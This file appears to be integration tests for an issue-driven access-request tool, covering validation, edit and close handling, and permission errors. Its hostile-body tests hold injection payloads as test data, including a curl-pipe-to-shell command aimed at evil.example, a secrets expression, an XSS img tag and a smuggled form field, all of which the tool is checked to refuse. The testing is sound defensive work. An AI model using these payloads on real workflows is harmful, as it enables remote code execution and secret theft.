/**
 * The request issue's life before the merge, through request.yml's own command line: hostile
 * bodies refused with a clear comment and a label (no branch, no pull request, no FreshBooks
 * call); an edit updates the same pull request; an edit that breaks the form closes it and
 * fixing the form reopens it; closing the issue closes it; a run with nothing new writes
 * nothing; and a repository that does not let Actions open pull requests says which setting.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GOOD_ANSWERS, formBody } from '../../unit/jit/request-form.js';
import { REQUESTER, RequestWorld } from './request-harness.js';

const NOW = '2026-03-02T09:00:00.000Z';
const LATER = '2026-03-02T09:30:00.000Z';

describe('hostile issue bodies', () => {
  let world: RequestWorld;
  beforeAll(async () => {
    world = await RequestWorld.create();
  });
  afterAll(() => world.close());

  const cases: Array<[string, string, string]> = [
    [
      'shell metacharacters',
      formBody({ ...GOOD_ANSWERS, reason: 'close $(curl -s evil.example | sh)' }),
      'Reason contains shell or template syntax ($( or ${): write it as plain text',
    ],
    [
      'a GitHub expression',
      formBody({ ...GOOD_ANSWERS, ticket: '${{ secrets.FRESHBOOKS_CLIENT_SECRET }}' }),
      'Ticket contains shell or template syntax ($( or ${): write it as plain text',
    ],
    [
      'HTML and a mention',
      formBody({ ...GOOD_ANSWERS, reason: '@acme/owners <img src=x onerror=alert(1)>' }),
      'Reason contains HTML (&lt; or &gt;): write it as plain text',
    ],
    [
      'a markdown link',
      formBody({ ...GOOD_ANSWERS, reason: 'see [the ticket](https://evil.example/login)' }),
      'Reason contains a markdown link or image: write it as plain text',
    ],
    [
      'an oversized field',
      formBody({ ...GOOD_ANSWERS, reason: 'x'.repeat(5000) }),
      'Reason is 5000 characters; at most 500 are accepted',
    ],
    [
      'another business',
      formBody({ ...GOOD_ANSWERS, business: '999001' }),
      'Business: no policy in this repository is for "999001"; the businesses are Acme Books Inc. (240340)',
    ],
    [
      'a forbidden role',
      formBody({ ...GOOD_ANSWERS, role: 'admin' }),
      'Role: admin cannot be requested with the form',
    ],
    ['a duration over maxDuration', formBody({ ...GOOD_ANSWERS, duration: '45d' }), 'maxDuration'],
    [
      'a second Role smuggled into the reason',
      formBody({ ...GOOD_ANSWERS, reason: 'Quarter close\n\n### Role\n\nadmin' }),
      'Role appears more than once: keep one answer per field',
    ],
  ];

  it.each(cases)(
    '%s: refused with a clear comment and a label, nothing opened',
    async (_what, body, problem) => {
      const refsBefore = await world.remote.refs();
      world.emulator.control.resetRequests();
      const issue = world.openIssue(body);
      const run = await world.request(issue, { now: NOW });
      expect(run.code).toBe(1);
      expect(run.err).toContain('rolecall: request refused');
      const status = world.status(issue);
      expect(status).toContain('### ❌ Not requested: the form needs fixing');
      expect(status).toContain(problem);
      expect(status).toContain('**To fix it, edit this issue**');
      // Neutralised: no live mention, HTML or link from the body, however it was quoted.
      expect(status).not.toMatch(/@acme\/owners|<img|\]\(https|\$\{\{ secrets/);
      expect(world.repo.issue(issue).labels).toEqual(['access-request', 'access-request-invalid']);
      expect(world.pulls()).toEqual([]);
      expect(await world.remote.refs()).toEqual(refsBefore);
      expect(world.emulator.control.requests().log).toEqual([]);
    },
  );

  it('an issue without the form’s label is not a request: nothing is written', async () => {
    const issue = world.repo.addIssue({ author: REQUESTER, title: 'Hello', body: formBody() });
    world.gh.clearRequests();
    const run = await world.request(issue, { now: NOW });
    expect(run.code).toBe(1);
    expect(run.err).toContain(`issue #${issue} is not labelled access-request`);
    expect(world.gh.writes()).toEqual([]);
  });
});

describe('edit, break, fix, close', () => {
  let world: RequestWorld;
  beforeAll(async () => {
    world = await RequestWorld.create();
  });
  afterAll(() => world.close());

  it('updates one pull request through every edit and closes it with the issue', async () => {
    const issue = world.openIssue(GOOD_ANSWERS);
    expect((await world.request(issue, { now: NOW })).code).toBe(0);
    const [pr] = world.pulls();
    const number = pr as number;
    const branch = world.repo.pull(number).headRef;
    const first = world.repo.pull(number).headSha;

    // Nothing new (an edit of the title alone): no write anywhere, the head stays approved.
    world.gh.clearRequests();
    const quiet = await world.request(issue, { action: 'edited', sender: 'maya', now: LATER });
    expect(quiet.code, quiet.err).toBe(0);
    expect(world.gh.writes()).toEqual([]);
    expect(world.repo.pull(number).headSha).toBe(first);

    // An edit by someone else: the same pull request, rebuilt; the editor is recorded.
    world.editIssue(issue, { ...GOOD_ANSWERS, duration: '4h' });
    const edited = await world.request(issue, { action: 'edited', sender: 'maya', now: LATER });
    expect(edited.code, edited.err).toBe(0);
    expect(world.pulls()).toEqual([number]);
    expect(world.repo.pull(number).headSha).not.toBe(first);
    expect(world.repo.issue(number).title).toContain('until 2026-03-02 13:30 UTC');
    expect(world.repo.issue(number).body).toContain('| **Edited by** | @maya');
    expect(await world.remote.git.raw(['log', '-1', '--format=%B', branch])).toContain(
      `Rolecall-Requested-By: ${REQUESTER}\nRolecall-Edited-By: maya`,
    );
    expect(world.status(issue)).toContain('| **Edited by** | @maya |');
    expect(world.statusComments(issue)).toHaveLength(1);

    // The form broken by an edit: the pull request is closed with a note, the issue labelled.
    world.editIssue(issue, { ...GOOD_ANSWERS, role: 'admin' });
    const broken = await world.request(issue, { action: 'edited', now: LATER });
    expect(broken.code).toBe(1);
    expect(world.repo.issue(number).state).toBe('closed');
    expect(world.repo.commentsOn(number).at(-1)?.body).toContain(
      `Closed by rolecall: the request in #${issue} no longer passes its checks`,
    );
    expect(world.repo.issue(issue).labels).toContain('access-request-invalid');

    // Fixed: the same pull request reopens, the label goes.
    world.editIssue(issue, { ...GOOD_ANSWERS, duration: '2h' });
    const fixed = await world.request(issue, { action: 'edited', now: LATER });
    expect(fixed.code, fixed.err).toBe(0);
    expect(world.pulls()).toEqual([number]);
    expect(world.repo.issue(number).state).toBe('open');
    expect(world.repo.issue(issue).labels).toEqual(['access-request']);
    expect(world.status(issue)).toContain('### ⏳ Waiting for approval');

    // Closed by the requester: withdrawn, the pull request closed, no new one.
    world.repo.issue(issue).state = 'closed';
    const closed = await world.request(issue, { action: 'closed', now: LATER });
    expect(closed.code, closed.err).toBe(0);
    expect(world.repo.issue(number).state).toBe('closed');
    expect(world.repo.pull(number).merged).toBe(false);
    expect(world.status(issue)).toContain(
      `The issue was closed before the merge, which withdraws the request: #${number} was closed without merging.`,
    );
    world.gh.clearRequests();
    expect((await world.request(issue, { action: 'closed', now: LATER })).code).toBe(0);
    expect(world.gh.writes()).toEqual([]);
  });
});

describe('a repository that does not let Actions open pull requests', () => {
  let world: RequestWorld;
  beforeAll(async () => {
    world = await RequestWorld.create();
  });
  afterAll(() => world.close());

  it('says which setting and token, and opens the pull request once allowed', async () => {
    world.repo.refuseActionsPullRequests();
    const issue = world.openIssue(GOOD_ANSWERS);
    const blocked = await world.request(issue, { now: NOW });
    expect(blocked.code).toBe(1);
    expect(world.pulls()).toEqual([]);
    expect(world.gh.calls('POST', /\/pulls$/).map((r) => r.status)).toEqual([403]);
    const status = world.status(issue);
    expect(status).toContain('### ⚠️ The pull request could not be opened');
    expect(status).toContain(
      'Settings → Actions → General → Workflow permissions → "Allow GitHub Actions to create and approve pull requests"',
    );
    expect(status).toContain('contents: write, pull-requests: write, issues: write');

    world.repo.settings.actions.canApprovePullRequestReviews = true;
    const allowed = await world.request(issue, { action: 'edited', now: LATER });
    expect(allowed.code, allowed.err).toBe(0);
    expect(world.pulls()).toHaveLength(1);
    expect(world.status(issue)).toContain('### ⏳ Waiting for approval');
  });
});

describe('a dry run, and the flags', () => {
  let world: RequestWorld;
  beforeAll(async () => {
    world = await RequestWorld.create();
  });
  afterAll(() => world.close());

  it('--dry-run checks the form and prints the diff, writing nothing anywhere', async () => {
    const issue = world.openIssue(GOOD_ANSWERS);
    const refs = await world.remote.refs();
    world.gh.clearRequests();
    const run = await world.cli(['request', '--from-issue', String(issue), '--dry-run'], NOW);
    expect(run.code, run.err).toBe(0);
    expect(run.out).toContain('+  - email: temp@contractors.example');
    expect(run.out).toContain(
      `Dry run: issue #${issue} asks for contractor for temp@contractors.example until 2026-03-02 17:00 UTC. Nothing was written, committed or pushed.`,
    );
    expect(world.gh.writes()).toEqual([]);
    expect(await world.remote.refs()).toEqual(refs);
    expect(world.emulator.control.requests().log).toEqual([]);
  });

  it('--from-issue takes everything from the issue: the other request flags are refused', async () => {
    const run = await world.cli(['request', '--from-issue', '1', '--email', 'x@acme.example'], NOW);
    expect(run.code).toBe(1);
    expect(run.err).toContain('--from-issue takes the request from the issue; drop --email');
    const store = await world.cli(['request', '--token-store', 'file:x', '--business', '1'], NOW);
    expect(store.err).toContain('--token-store and --rate go with --from-issue');
  });
});
